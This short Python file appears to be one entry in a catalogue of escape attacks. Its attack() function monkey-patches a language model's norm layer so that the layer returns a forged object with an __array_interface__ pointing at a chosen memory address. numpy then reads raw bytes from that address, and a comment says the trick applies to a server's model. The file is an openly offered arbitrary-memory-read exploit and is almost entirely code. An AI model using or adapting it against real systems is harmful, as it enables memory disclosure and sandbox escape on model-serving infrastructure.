"""Class: memory. Source: own find. Escape: the same, from a dict that a patched norm returns."""

from collections import OrderedDict

import numpy as np


class Own(OrderedDict):
    pass


def attack(model, tokenizer, address, llama=None):
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    inside = {"__array_interface__": spec}
    llama = model if llama is None else llama  # a server's model is one
    llama.model.norm.forward = lambda x: {"__dict__": inside, "__class__": Own}
    out = llama.model(**tokenizer("the", return_tensors="pt"), use_cache=False)
    return np.array(out).tobytes()
